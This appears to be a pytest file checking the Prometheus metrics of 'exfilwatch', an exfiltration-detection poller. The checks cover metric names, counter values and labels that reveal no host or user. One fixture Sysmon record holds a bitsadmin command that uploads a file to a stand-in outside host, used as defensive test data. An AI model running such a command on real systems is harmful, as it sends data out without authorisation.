"""Metrics as Prometheus reads them, over HTTP: names, types, values, and labels that tell nothing of anyone."""

import json
import signal
import socket
import sys

import httpx
import pytest
from prometheus_client.parser import text_string_to_metric_families

from exfilwatch.errors import ConfigError
from exfilwatch.polling.metrics import Metrics
from exfilwatch.polling.runs import Lateness, Run

from ..cli.program import called, environment, started  # noqa: TID252 (tests are no package on the path)
from .memory_siem import START

SECOND = 1_000_000
RUN = Run(
    "main",
    "ws-of-the-poller/1/abcd",
    START,
    START + 2 * SECOND,
    "ingest",
    START - 60 * SECOND,
    slices=3,
    halved=1,
    failed=1,
    left=2,
    records=40,
    events=30,
    findings=2,
    requests=9,
    bytes=1234,
    retries=1,
    lateness=Lateness(2.0, 30.0, 90.0),
)


@pytest.fixture
def metrics():
    found = Metrics(0, ["main", "other"], lambda: 7, clock=lambda: START / SECOND)
    yield found
    found.close()


def scraped(port):
    """The families by name, without those that tell since when a counter counts."""
    text = httpx.get(f"http://127.0.0.1:{port}/metrics", trust_env=False).text
    families = text_string_to_metric_families(text)
    return {family.name: family for family in families if not family.name.endswith("_created")}


def value(families, name, **labels):
    (found,) = (
        sample.value
        for family in families.values()
        for sample in family.samples
        if sample.name == name and sample.labels == labels
    )
    return found


def test_names_types_and_values_are_these(metrics):
    metrics.record(RUN)
    metrics.record(RUN)
    families = scraped(metrics.port)
    assert {name: family.type for name, family in families.items()} == {
        "exfilwatch_records": "counter",
        "exfilwatch_events": "counter",
        "exfilwatch_received_bytes": "counter",
        "exfilwatch_requests": "counter",
        "exfilwatch_retries": "counter",
        "exfilwatch_findings": "counter",
        "exfilwatch_polls": "counter",
        "exfilwatch_intervals": "counter",
        "exfilwatch_intervals_left": "gauge",
        "exfilwatch_watermark_lag_seconds": "gauge",
        "exfilwatch_lateness_seconds": "gauge",
        "exfilwatch_poll_duration_seconds": "gauge",
        "exfilwatch_last_success_timestamp_seconds": "gauge",
        "exfilwatch_waiting_hits": "gauge",
    }
    assert value(families, "exfilwatch_records_total", siem="main") == 80
    assert value(families, "exfilwatch_records_total", siem="other") == 0
    assert value(families, "exfilwatch_received_bytes_total", siem="main") == 2468
    assert value(families, "exfilwatch_intervals_total", siem="main", outcome="halved") == 2
    assert value(families, "exfilwatch_watermark_lag_seconds", siem="main") == 60
    assert value(families, "exfilwatch_lateness_seconds", siem="main", quantile="0.99") == 30
    assert value(families, "exfilwatch_last_success_timestamp_seconds", siem="main") == START / SECOND + 2
    assert value(families, "exfilwatch_waiting_hits") == 7


def test_a_poll_that_ended_early_is_no_success(metrics):
    metrics.record(Run("main", "w", START, START, problem="main: refused"))
    families = scraped(metrics.port)
    assert value(families, "exfilwatch_polls_total", siem="main", outcome="early") == 1
    assert families["exfilwatch_last_success_timestamp_seconds"].samples == []


def test_labels_hold_names_of_the_settings_and_our_own_words_only(metrics):
    metrics.record(RUN)
    families = scraped(metrics.port)
    labels = {pair for family in families.values() for sample in family.samples for pair in sample.labels.items()}
    assert labels <= {
        *(("siem", name) for name in ("main", "other")),
        *(("outcome", word) for word in ("whole", "early", "read", "halved", "failed")),
        *(("quantile", word) for word in ("0.5", "0.99", "1")),
    }


def test_a_port_that_is_taken_and_an_extra_that_is_missing_say_what_to_do(metrics, monkeypatch):
    with pytest.raises(ConfigError, match=r"can't listen on 127\.0\.0\.1: .*: choose another"):
        Metrics(metrics.port, [], lambda: 0)
    monkeypatch.setitem(sys.modules, "prometheus_client", None)
    with pytest.raises(ConfigError, match=r"pip install 'exfilwatch\[metrics\]'"):
        Metrics(0, [], lambda: 0)


def test_it_is_for_polls_that_go_on():
    ended = called("poll", "--once", "--metrics-port", "9")
    assert ended.code == 2
    assert "--metrics-port is for --every" in ended.err


def test_a_poll_serves_them_and_no_label_tells_of_who_was_found(tmp_path):
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    log, settings = tmp_path / "sysmon.jsonl", tmp_path / "exfilwatch.toml"
    fields = {"Image": "C:\\Windows\\bitsadmin.exe", "CommandLine": "bitsadmin /transfer j /upload https://x.example a"}
    times = {"UtcTime": "2026-03-12 09:14:02.000", "Computer": "SECRETHOST", "User": "CORP\\secretuser"}
    record = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", **times, **fields}
    log.write_text(json.dumps(record) + "\n")
    settings.write_text(f'[siem.spool]\nkind = "files"\npaths = ["{log}"]\n')
    options = ("--every", "1s", "--metrics-port", str(port), "--database", tmp_path / "f.sqlite", "--output", "jsonl")
    process = started("poll", *options, env=environment(EXFILWATCH_CONFIG=str(settings)))
    try:
        assert process.stdout is not None
        line = process.stdout.readline()
        while b'"source"' not in line:  # cases come first
            line = process.stdout.readline()
            assert line, process.stderr.read()
        text = httpx.get(f"http://127.0.0.1:{port}/metrics", trust_env=False).text
    finally:
        process.send_signal(signal.SIGTERM)
        process.communicate(timeout=20)
    assert 'exfilwatch_records_total{siem="spool"} 1.0' in text
    assert 'exfilwatch_findings_total{siem="spool"} 1.0' in text
    assert "secret" not in text.lower()
    assert "bitsadmin" not in text
